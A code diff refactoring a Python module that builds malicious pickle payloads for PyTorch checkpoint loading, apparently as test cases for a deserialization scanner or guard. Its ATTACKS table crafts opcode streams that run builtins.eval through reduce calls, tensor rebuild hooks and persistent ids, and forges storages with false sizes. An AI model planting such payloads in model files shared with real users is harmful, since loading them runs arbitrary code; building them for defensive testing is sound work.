@@ -31,23 +31,37 @@ def call(module: str, attribute: str, *arguments: bytes) -> bytes:
     return name(module, attribute) + b"(" + b"".join(arguments) + b"tR"
 
 
+_NO_HOOKS = call("collections", "OrderedDict")
+
+
 def _stack_global(module: str, attribute: str) -> bytes:
-    return (
-        b"\x8c"
-        + bytes([len(module)])
-        + module.encode()
-        + b"\x8c"
-        + bytes([len(attribute)])
-        + attribute.encode()
-        + b"\x93"
-    )
+    words = (b"\x8c" + bytes([len(word)]) + word.encode() for word in (module, attribute))
+    return b"".join(words) + b"\x93"
 
 
 def _shell(line: str) -> str:
     return f"python3 -c '{line}'"
 
 
-_STORAGE = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x08tQ"
+def storage(count: bytes, kind: str = "FloatStorage") -> bytes:
+    return b"(" + text("storage") + name("torch", kind) + text("0") + text("cpu") + count + b"tQ"
+
+
+def tensor(of: bytes, offset: bytes, size: bytes, stride: bytes, hooks: bytes = _NO_HOOKS) -> bytes:
+    return call("torch._utils", "_rebuild_tensor_v2", of, offset, size, stride, b"\x89", hooks)
+
+
+def quantized(of: bytes, size: bytes, stride: bytes, scale: float) -> bytes:
+    parameters = b"(" + name("torch", "per_tensor_affine") + b"G" + struct.pack(">d", scale) + b"K\0t"
+    return call("torch._utils", "_rebuild_qtensor", of, b"K\0", size, stride, parameters, b"\x89", _NO_HOOKS)
+
+
+def _int(value: int) -> bytes:
+    return b"J" + struct.pack("<i", value)
+
+
+_ONE = b"K\x01\x85"
+"""A shape, or the steps of one, of a single dimension."""
 
 ATTACKS: dict[str, Attack] = {
     "eval": lambda line: call("builtins", "eval", text(line)),
@@ -94,27 +108,13 @@ ATTACKS: dict[str, Attack] = {
     "a persistent id": lambda line: call("builtins", "eval", text(line)) + b"Q",
     "another reference": lambda line: b"(" + text("module") + call("builtins", "eval", text(line)) + b"tQ",
     "a textual id": lambda line: b"P" + line.encode() + b"\n",
-    "a lying storage": lambda line: _tensor(b"J" + struct.pack("<i", 2**30), 2**20),
-    "a lying quantized storage": lambda line: _quantized(2**30),
-    "a storage as a tensor": lambda line: call(
-        "torch._utils",
-        "_rebuild_tensor_v2",
-        call("builtins", "eval", text(line)),
-        b"K\0",
-        b")",
-        b")",
-        b"\x89",
-        call("collections", "OrderedDict"),
+    "a lying storage": lambda line: tensor(storage(_int(2**30)), b"K\0", _int(2**20) + b"\x85", _ONE),
+    "a lying quantized storage": lambda line: quantized(
+        storage(_int(2**30), "QInt8Storage"), _int(2**30) + b"\x85", _ONE, scale=1.0
     ),
-    "backward hooks": lambda line: call(
-        "torch._utils",
-        "_rebuild_tensor_v2",
-        _STORAGE,
-        b"K\0",
-        b"K\x01\x85",
-        b"K\x01\x85",
-        b"\x89",
-        b"}K\0" + name("builtins", "eval") + b"s",
+    "a storage as a tensor": lambda line: tensor(call("builtins", "eval", text(line)), b"K\0", b")", b")"),
+    "backward hooks": lambda line: tensor(
+        storage(b"K\x08"), b"K\0", _ONE, _ONE, hooks=b"}K\0" + name("builtins", "eval") + b"s"
     ),
     "a type's own": lambda line: call(
         "torch._tensor",
@@ -139,39 +139,6 @@ ATTACKS: dict[str, Attack] = {
     "a counter": lambda line: call("collections", "Counter", call("builtins", "eval", text(line))),
     "a set": lambda line: call("builtins", "set", b"](" + call("builtins", "eval", text(line)) + b"e"),
 }
-
-
-def _tensor(count: bytes, elements: int) -> bytes:
-    storage = b"(" + text("storage") + name("torch", "FloatStorage") + text("0") + text("cpu") + count + b"tQ"
-    size = b"J" + struct.pack("<i", elements) + b"\x85"
-    return call(
-        "torch._utils",
-        "_rebuild_tensor_v2",
-        storage,
-        b"K\0",
-        size,
-        b"K\x01\x85",
-        b"\x89",
-        call("collections", "OrderedDict"),
-    )
-
-
-def _quantized(count: int) -> bytes:
-    number = b"J" + struct.pack("<i", count)
-    storage = b"(" + text("storage") + name("torch", "QInt8Storage") + text("0") + text("cpu") + number + b"tQ"
-    scale = b"G" + struct.pack(">d", 1.0)
-    parameters = b"(" + name("torch", "per_tensor_affine") + scale + b"K\0t"
-    return call(
-        "torch._utils",
-        "_rebuild_qtensor",
-        storage,
-        b"K\0",
-        number + b"\x85",
-        b"K\x01\x85",
-        parameters,
-        b"\x89",
-        call("collections", "OrderedDict"),
-    )
 
 
 def fire(line: str) -> None:
